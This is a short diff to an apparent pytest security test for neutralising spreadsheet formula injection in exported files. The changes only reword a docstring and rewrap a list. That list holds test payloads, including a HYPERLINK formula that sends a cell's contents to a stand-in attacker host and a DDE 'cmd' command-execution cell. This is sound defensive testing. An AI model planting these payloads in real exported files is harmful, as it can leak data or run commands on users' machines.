@@ -1,4 +1,4 @@
-"""Cells that a spreadsheet would run: neutralised where a file is asked for one, exact elsewhere, and undone when read back."""
+"""Cells that a spreadsheet would run: neutralised where asked for, exact elsewhere, and undone when read back."""
 
 import csv
 import json
@@ -17,8 +17,8 @@ from tests.flows.conftest import Run, rollmill  # noqa: F401 (a fixture)
 pytestmark = pytest.mark.security
 
 FORMULAS = [
-    '=HYPERLINK("http://evil.example?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1",
-    "\uff1d1", "'=1", "''@x", "= 1",
+    '=HYPERLINK("http://evil.example?"&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1",
+    "\n=1", " =1", "\uff1d1", "'=1", "''@x", "= 1",
 ]  # fmt: skip
 HARMLESS = ["", "'", "1 + 1", "a=b", "'quoted'", "x\n=1"]
 
